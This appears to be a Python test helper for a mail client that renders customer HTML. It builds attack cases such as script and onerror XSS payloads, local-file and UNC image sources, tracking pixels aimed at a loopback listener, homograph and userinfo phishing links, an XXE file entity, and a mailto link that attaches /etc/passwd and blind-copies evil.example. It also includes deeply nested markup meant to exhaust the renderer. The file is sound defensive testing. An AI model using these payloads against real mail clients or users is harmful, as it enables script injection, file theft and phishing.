"""What a customer's mail may hold who means harm: the attack cases A01 to A42, and what tells whether one of them got anywhere."""

import ctypes
import os
import select
import socket
import struct
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

ADDRESSES = (
    "file://{bait}",
    "FILE:{bait}",
    "file:{bait}",
    "file://localhost{bait}",
    "fi\nle://{bait}",
    "&#102;ile://{bait}",
    "{bait}",
    "../../../../../../../../..{bait}",
    "x-img:{bait}",
    "x-data:{bait}",
    "cid:{bait}",
    "file:///dev/zero",
    "/dev/zero",
    "file:///proc/self/mem",
    "file://127.0.0.1/share/x.png",
    r"\\127.0.0.1\share\x.png",
    "//127.0.0.1/share/x.png",
    "qrc:/x.png",
    ":/x.png",
    "image://provider/x",
    "ftp://127.0.0.1:{port}/x.png",
    "{track}/pixel.png",
    "//127.0.0.1:{port}/pixel.png",
)
"""Where a picture, a style or a link may point. `{bait}` is a file that nothing may open, `{track}` a server that nothing may ask."""

ELEMENTS = (
    '<img src="{0}">',
    "<img src='{0}' onerror=alert(1)>",
    '<img src=x srcset="{0} 2x" lowsrc="{0}" dynsrc="{0}" longdesc="{0}">',
    '<image src="{0}">',
    '<input type=image src="{0}">',
    '<object data="{0}"></object><embed src="{0}"><iframe src="{0}"></iframe><video poster="{0}"></video>',
    '<picture><source srcset="{0}"><img></picture><audio src="{0}"></audio>',
    '<table background="{0}"><tr background="{0}"><td background="{0}" style="background:url({0})">x</td></tr></table>',
    '<body background="{0}">x</body>',
    '<style>@import "{0}"; p {{ background: url({0}) }} li {{ list-style-image: url({0}) }}</style><p>x</p>',
    '<link rel=stylesheet href="{0}"><link rel=prefetch href="{0}"><base href="{0}"><meta http-equiv=refresh content="0;url={0}">',
    '<div style="background:\\75rl({0});border-image:url({0}">x</div>',
    '<svg><image href="{0}"/><use href="{0}"/><feImage href="{0}"/><animate attributeName=href to="{0}"/></svg>',
    '<math><mtext><mglyph><style><img src="{0}"></style></mglyph></mtext></math>',
    '<p title="&lt;img src=&quot;{0}&quot;&gt;">hover</p><a title="<img src={0}>" href="https://shop.example">a</a>',
    '<a href="{0}"><img src="{0}"></a>',
    '<ul type="{0}"><li value="{0}">x</li></ul><hr src="{0}"><col background="{0}">',
    '<!--[if mso]><v:imagedata src="{0}"/><![endif]-->',
    '<xmp><img src="{0}"></xmp><noscript><img src="{0}"></noscript><textarea><img src="{0}"></textarea>',
    '<title><img src="{0}"></title><template><img src="{0}"></template><plaintext><img src="{0}">',
)

BODIES = (
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">a</a><a href="java\tscript:alert(1)">b</a><a href="&#106;avascript:alert(1)">c</a>',
    '<a href="vbscript:x">a</a><a href="data:text/html,<script>">b</a><a href="ms-msdt:/id">c</a><a href="smb://x/y">d</a>',
    '<a href="https://good.example@evil.example/">https://good.example</a><a href="https://evil.example\\@good.example">x</a>',
    '<a href="https://аррӏе.com">apple.com</a> <a href="https://xn--80ak6aa92e.com">apple.com</a>',
    '<a href="mailto:?attach=/etc/passwd&bcc=evil@evil.example">write</a><a href="tel:*%2306%23">call</a>',
    "<form action='{track}'><input name=q><button formaction='{track}'>Send</button></form>",
    "<img src='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4='>",
    "<img src='data:text/html;base64,PGh0bWw+'><img src='data:charset,'><img src='data:image/png;base64,AAAA'>",
    "<img src='cid:other@ticket'><img src='cid:../../x'><img src='cid:%2e%2e/x'>",
    '<img src="{track}/?',
    "the private words of another message' \"> and on it goes",
    "<table><tr><td><div><blockquote><b><i>never closed <!-- nor this",
    "<textarea>never closed",
    "<plaintext>never closed",
    "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px;background:white;z-index:9'>cover</div>",
    "<font size=9999 style='font-size:999999px'>huge</font><img src=x width=999999 height=999999>",
    "<table>" * 60 + "deep" + "</table>" * 60,
    "<table><tr><td>" * 18 + "deep" + "</td></tr></table>" * 18,
    "<table border=99999 cellspacing=99999><tr><td colspan=2000000000 rowspan=1000000>wide</td></tr></table>",
    "<div>" * 5_000 + "nested",
    "<b>" * 190 + "<p>" * 9_000 + "work",
    "<a " * 20_000,
    "<!--" * 20_000,
    "<p " + "a=1 " * 5_000 + ">many</p>",
    "w" * 100_000,
    "abc אבג " * 12_000,
    "\u202e\u2066" * 20_000 + "turned",
    "e" + "\u0301" * 50_000,
    "a\0b\ufffe\uffff\x1b[31m\x07 controls",
    "&#0;&#xD800;&#x110000;&#128;&nbsp;&unknown;&amp;lt;script&amp;gt;",
    "<p>%1 %s {0} {{name}} {html} &amp;File\r\nX-Header: 1</p>",
    "<tr><td>row</td></tr>" * 3_000,
    "<img src=x>" * 1_500,
    '<a href="https://shop.example/' + "a" * 9_000 + '">long</a>',
    "<a href='https://shop.example/'>x</a> " * 1_200,
    "<svg><style><img src=x onerror=alert(1)></style></svg>--!><noscript><p title='</noscript><img src=x>'>",
    "<math><annotation-xml encoding='text/html'><style><!--</style><img title='--&gt;&lt;img src=1&gt;'>",
    "<![CDATA[<img src=x>]]><?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file://{bait}'>]>&e;",
    "http://" + "(" * 20_000 + ")" * 20_000,
    "> " * 30_000,
)

NAMES = (
    '<img src="file://{bait}">',
    "<b>bold</b> & \"co\" 'x' %1 {{0}}",
    "Jane\u202enaJ\nTo: x",
    "<qt><img src='{track}/p.png'>",
)


def bodies(bait: str, port: int) -> list[str]:
    """Return every body of the corpus."""
    track = f"http://127.0.0.1:{port}"

    def filled(text: str) -> str:
        return text.replace("{bait}", bait).replace("{track}", track).replace("{port}", str(port))

    pointed = [
        "".join(place.format(filled(where)) + "\n" for where in ADDRESSES[start : start + 6])
        for place in ELEMENTS
        for start in range(0, len(ADDRESSES), 6)
    ]
    return pointed + [filled(body) for body in BODIES]


def names(bait: str, port: int) -> list[str]:
    """Return what somebody or something may be called."""
    return [name.replace("{bait}", bait).replace("{track}", f"http://127.0.0.1:{port}") for name in NAMES]


@contextmanager
def tracker() -> Iterator[tuple[int, list[str]]]:
    """Listen on loopback, UDP beside TCP not needed; yields the port and who came."""
    came: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        ending = threading.Event()

        def listen() -> None:
            while not ending.is_set():
                try:
                    line, address = server.accept()
                except TimeoutError:
                    continue
                came.append(str(address))
                line.close()

        thread = threading.Thread(target=listen, name="tracker")
        thread.start()
        try:
            yield server.getsockname()[1], came
        finally:
            ending.set()
            thread.join()


@contextmanager
def opened_files(folder: Path) -> Iterator[list[str]]:
    """Yield what is opened in a folder by any library of this machine; always empty where there is no inotify."""
    opened: list[str] = []
    if sys.platform == "linux":
        system = ctypes.CDLL(None, use_errno=True)
        handle = system.inotify_init1(os.O_NONBLOCK)
        assert handle >= 0
        assert system.inotify_add_watch(handle, os.fsencode(folder), 0x20 | 0x1) >= 0  # IN_OPEN, IN_ACCESS
        try:
            yield opened
            while select.select([handle], [], [], 0)[0]:
                data = os.read(handle, 65_536)
                while data:
                    _, mask, _, length = struct.unpack_from("iIII", data)
                    opened.append(f"{mask:#x} {data[16 : 16 + length].rstrip(bytes(1)).decode()}")
                    data = data[16 + length :]
        finally:
            os.close(handle)
    else:
        yield opened
